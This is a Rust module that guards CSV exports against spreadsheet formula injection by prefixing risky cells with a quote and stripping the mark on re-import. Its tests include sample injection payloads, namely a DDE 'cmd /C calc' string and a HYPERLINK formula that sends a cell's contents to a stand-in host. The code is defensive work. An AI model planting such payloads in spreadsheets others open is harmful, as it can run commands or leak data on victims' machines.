//! Text bound for a spreadsheet: what every CSV the program writes does to a
//! value that Excel, LibreOffice or Google Sheets would run as a formula.
//!
//! A report's notes can come from a member of the public (the concern card)
//! and an audit entry's detail from whoever holds a token; the CSVs of both
//! are opened in spreadsheets by officers and administrators. A cell such as
//! `=HYPERLINK("https://…?"&A2,"open")` would run there. So, as OWASP's CSV
//! injection advice has it, such a value is written with a leading `'`,
//! which spreadsheets take as "this is text". The cost is fidelity: a note
//! that begins `- saw` reads `'- saw` in the CSV. GeoJSON, GeoPackage,
//! GeoParquet and the API's JSON carry text exactly as stored, for tools
//! that read data rather than run it.
//!
//! A CSV read back in (an export loaded into another database, or into the
//! same one again) has the mark taken off ([`unmarked_text`]): else a note
//! would gain a `'` at each trip, and a report loaded again would differ
//! from itself and be refused as a conflict. A spreadsheet saving a CSV
//! drops its own text mark, so a `'` before a formula's first character in
//! a CSV is one of these marks.

use std::borrow::Cow;

/// `value` as a spreadsheet cell that cannot be a formula: with a leading
/// `'` when it starts with `=`, `+`, `-`, `@`, a tab or a carriage return
/// (or a full-width `＝`, which East Asian editions of Excel also take),
/// unless it is a plain number (`-1.5`, `+44`, `-2e-3`), which a
/// spreadsheet reads as a number either way and a coordinate must stay.
#[must_use]
pub fn spreadsheet_text(value: &str) -> Cow<'_, str> {
    let Some(first) = value.chars().next() else {
        return Cow::Borrowed(value);
    };
    let formula_start = matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r' | '＝');
    if !formula_start || is_plain_number(value) {
        return Cow::Borrowed(value);
    }
    Cow::Owned(format!("'{value}"))
}

/// `value` as it was before [`spreadsheet_text`] marked it: without the
/// leading `'` exactly when `spreadsheet_text` would have added it.
#[must_use]
pub fn unmarked_text(value: &str) -> &str {
    match value.strip_prefix('\'') {
        Some(text) if spreadsheet_text(text).len() == value.len() => text,
        _ => value,
    }
}

/// A sign, then digits with at most a point and an exponent: `-1.5`, not
/// `-inf`, `+NaN` or `-1+1` (which `f64::from_str` takes or a sheet sums).
fn is_plain_number(value: &str) -> bool {
    let unsigned = value.strip_prefix(['+', '-']).unwrap_or(value);
    unsigned.starts_with(|c: char| c.is_ascii_digit() || c == '.')
        && unsigned
            .bytes()
            .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'e' | b'E' | b'+' | b'-'))
        && value.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::{spreadsheet_text, unmarked_text};

    /// Marking then unmarking gives the text back, whatever it is but text
    /// that itself begins with `'` and a formula's first character (`'=1`,
    /// which reads back as `=1`: the price of a CSV that carries no flag);
    /// a `'` that no marking would add stays.
    #[test]
    fn unmarking_undoes_marking_and_nothing_else() {
        for value in [
            "=1+1", "- saw", "+44 7700", "@here", "\tx", "＝x", "-1.5", "plain", "", "'",
            "'quoted", "''=1", "'-1.5", "-", "=",
        ] {
            assert_eq!(unmarked_text(&spreadsheet_text(value)), value, "{value:?}");
        }
        for kept in ["'quoted", "'-1.5", "'", "'' =1", "x'=1"] {
            assert_eq!(unmarked_text(kept), kept);
        }
        assert_eq!(unmarked_text("'=1"), "=1");
        assert_eq!(unmarked_text("'- saw"), "- saw");
    }

    #[test]
    fn formulas_are_written_as_text_and_numbers_as_they_are() {
        for (value, written) in [
            (
                "=HYPERLINK(\"http://x/?\"&A2,\"open\")",
                "'=HYPERLINK(\"http://x/?\"&A2,\"open\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("＝1+1", "'＝1+1"),
            ("- saw six workers", "'- saw six workers"),
            ("-inf", "'-inf"),
            ("+NaN", "'+NaN"),
            ("-", "'-"),
            ("-1+1", "'-1+1"),
            ("+1-2e5", "'+1-2e5"),
            ("-1.234567", "-1.234567"),
            ("+44", "+44"),
            ("-2e-3", "-2e-3"),
            ("-.5", "-.5"),
            ("52.1", "52.1"),
            ("a = b", "a = b"),
            ("Car wash, A1 north", "Car wash, A1 north"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_text(value), written, "{value:?}");
        }
    }
}
